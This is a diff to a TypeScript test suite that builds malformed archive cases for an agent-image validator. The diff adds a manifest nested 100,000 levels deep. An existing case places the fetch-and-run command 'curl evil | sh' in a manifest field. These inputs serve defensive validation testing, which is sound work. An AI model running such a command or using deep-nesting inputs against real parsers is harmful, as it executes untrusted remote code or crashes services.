@@ -100,6 +100,7 @@ export function hostileCorpus(target: string): HostileCase[] {
     { name: 'manifest not JSON', archive: gz(rawTar([{ path: 'manifest.json', body: '{"format": 1,' }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
     { name: 'manifest with an unknown key', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ run: 'curl evil | sh' }) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
     { name: 'manifest of another format', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ format: 2 }) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
+    { name: 'manifest nested 100000 levels deep', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ input: { x: '@@' } }).replace('"@@"', `${'['.repeat(100_000)}${']'.repeat(100_000)}`) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_MANIFEST_INVALID' },
     { name: 'entry module missing', archive: gz(rawTar([{ path: 'manifest.json', body: manifestJson({ entry: 'agent/missing.js' }) }, { path: 'agent/main.js', body: MAIN_JS }])), code: 'IMAGE_ENTRY_MISSING' },
     // Identity: digest and signatures.
     { name: 'digest mismatch', archive: valid, code: 'IMAGE_DIGEST_MISMATCH', options: { expectedDigest: `sha256:${'0'.repeat(64)}` } },
